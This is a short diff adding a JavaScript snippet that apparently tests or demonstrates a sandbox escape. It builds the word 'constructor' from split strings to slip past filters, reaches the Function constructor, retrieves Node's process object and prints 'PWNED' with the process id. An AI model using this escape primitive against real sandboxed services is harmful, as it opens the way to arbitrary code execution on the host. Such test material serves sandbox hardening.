@@ -1,0 +1,5 @@
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+console.log('PWNED', [t].reduce((a, b) => b, null).go(fn)('return process')().pid);
